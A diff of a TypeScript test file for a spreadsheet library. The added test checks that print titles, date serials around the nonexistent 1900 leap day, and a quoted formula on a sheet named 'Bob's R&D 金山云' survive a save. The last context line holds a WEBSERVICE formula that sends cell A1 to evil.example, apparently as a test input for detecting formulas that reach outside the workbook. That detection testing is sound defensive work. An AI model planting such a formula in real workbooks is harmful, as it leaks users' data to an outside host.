@@ -116,6 +116,38 @@ test("texts that look like formulas come back and are saved as texts; formulas s
   expect(left).toEqual([]);
 });
 
+test("an own sheet with an apostrophe, an ampersand and Chinese in its name is printed with its titles, and days around the leap day that never was keep their numbers", async () => {
+  const name = "Bob's R&D 金山云";
+  const dateStyle = Object.entries(plan.styles).find(([, { numberFormat }]) =>
+    numberFormat?.includes("yyyy"),
+  )![0];
+  const serials = [1, 59, 60, 61, 45_992.25];
+  const own: SheetPlan = {
+    ...ownSheet(name, [
+      text("Days"),
+      ...serials.map((value): CellPlan => ({ value, style: dateStyle })),
+      formula("SUM('Bob''s R&D 金山云'!A2:A3)", 60),
+    ]),
+    print: {
+      ...plan.sheets[0]!.print,
+      area: "A1:A7",
+      footerRight: "",
+      titleRows: { from: 1, to: 1 },
+      titleColumns: { from: "A", to: "A" },
+    },
+  };
+  const file = await fileWith(own);
+  const written = (await readWorkbook(file)).survey.names.find(
+    ({ name: title, scope }) => title === "_xlnm.Print_Titles" && scope === name,
+  );
+  expect(written?.reference).toBe("'Bob''s R&D 金山云'!$A:$A,'Bob''s R&D 金山云'!$1:$1");
+  const { saved, left } = await throughGrid(file);
+  expect(left).toEqual([]);
+  const sheet = saved.sheet(name);
+  expect(serials.map((_, row) => sheet.cell(`A${row + 2}`).value)).toEqual(serials);
+  expect(sheet.cell("A7")).toEqual({ value: 60, formula: "SUM('Bob''s R&D 金山云'!A2:A3)" });
+});
+
 test("what asks outside the workbook is named and comes as its last value", async () => {
   const asking = [
     'WEBSERVICE("http://evil.example/?"&A1)',
